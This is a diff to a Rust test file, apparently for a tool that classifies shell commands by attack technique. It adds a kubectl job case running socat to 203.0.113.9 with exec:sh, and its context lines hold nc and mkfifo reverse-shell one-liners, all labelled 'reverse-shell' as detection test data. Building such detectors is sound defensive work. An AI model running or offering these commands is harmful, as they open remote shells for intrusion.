@@ -196,6 +196,11 @@ fn techniques_are_named() {
             Control,
             "reverse-shell",
         ),
+        (
+            "kubectl create job sync --image=alpine -- socat tcp:203.0.113.9:443 exec:sh",
+            Control,
+            "reverse-shell",
+        ),
         ("nc -e /bin/sh 10.0.0.1 4444", Control, "reverse-shell"),
         (
             "mkfifo f; cat f | sh -i 2>&1 | nc 10.0.0.1 1 > f",
